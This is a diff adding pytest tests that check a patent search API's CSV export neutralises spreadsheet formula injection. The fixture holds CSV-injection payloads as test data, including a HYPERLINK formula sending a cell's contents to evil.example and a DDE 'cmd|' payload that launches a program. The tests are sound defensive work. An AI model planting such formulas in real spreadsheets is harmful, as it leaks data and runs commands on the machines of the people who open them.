@@ -5,9 +5,17 @@ from __future__ import annotations
 import csv
 import io
 import json
+from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
+
+from iphub.records import LocalizedText, Party
+from iphub.store.embedded import EmbeddedStore
+from search_api import spreadsheet
+from search_api.main import create_app
+from tests.api.conftest import settings_for
+from tests.utils.factories import make_patent
 
 PROBLEM = "application/problem+json"
 
@@ -86,3 +94,46 @@ def test_an_export_holds_what_the_search_showed(client: TestClient) -> None:
         exported = [json.loads(line)["id"] for line in text.splitlines()]
         assert exported == sorted(h["id"] for h in shown["hits"]), q
         assert exported, q
+
+
+def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
+    """A title or name from public data that starts like a formula is text in the spreadsheet
+    (OWASP CSV injection: a leading single quote); the page's users open these in Excel."""
+    hostile = make_patent(
+        title=LocalizedText(text='=HYPERLINK("http://evil.example/?"&A1,"点击")'),
+        applicants=[Party(name="@SUM(1+1)", key="@SUM(1+1)", district="天河区")],
+        abstract=LocalizedText(text="-2+3+cmd|' /C calc'!A0"),
+        ipc=["=1+1"],
+    )
+    store = EmbeddedStore(tmp_path / "iphub.db")
+    store.upsert([hostile])
+    store.refresh()
+    app = create_app(settings_for(tmp_path / "iphub.db", rate_limit=0), store=store)
+    with TestClient(app) as client:
+        _, _, text = _export(client, kind="patent", format="csv")
+    store.close()
+    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    assert row["applicants"] == "'@SUM(1+1)"
+    assert row["abstract"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["ipc"] == "'=1+1"
+    assert row["title"] != hostile.title.text
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 20 1234", "'+86 20 1234"),
+        ("@x", "'@x"),
+        ("\r=x", "'\r=x"),
+        ("-68.5", "-68.5"),  # a number in a text column stays a number
+        ("+3", "+3"),
+        (-68.5, -68.5),
+        (-3, -3),
+        ("一种电池", "一种电池"),
+        (None, None),
+    ],
+)
+def test_one_cell_rule_for_every_csv(value: object, written: object) -> None:
+    assert spreadsheet.cell(value) == written
